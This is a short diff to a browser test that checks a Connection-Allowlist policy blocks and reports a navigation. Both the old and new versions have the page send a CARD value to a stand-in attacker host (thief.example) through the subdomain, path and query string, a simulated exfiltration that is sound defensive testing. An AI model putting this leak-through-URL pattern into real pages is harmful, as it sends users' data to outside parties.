@@ -90,10 +90,8 @@ test("a navigation that Connection-Allowlist stops is reported", async ({ page, 
     const { fields } = JSON.parse(readFileSync(site.path("site/release.json"), "utf8")) as { fields: { frame: { file: string } } };
     const address = `${site.fields}/${fields.frame.file}`;
     await page.goto(address);
-    await page.evaluate(async (card) => {
-      await new Promise((done) => setTimeout(done));
-      location.href = `https://${card}.thief.example/${card}?${card}`;
-    }, CARD);
+    // Out of the call: where it leads, nothing comes back from
+    await page.evaluate((card) => void setTimeout(() => (location.href = `https://${card}.thief.example/${card}?${card}`)), CARD);
     await expect
       .poll(async () => (await site.reports()).find(({ type }) => type === "connection-allowlist"), { timeout: 20_000 })
       .toMatchObject({ page: address, source: "https://*.thief.example" });
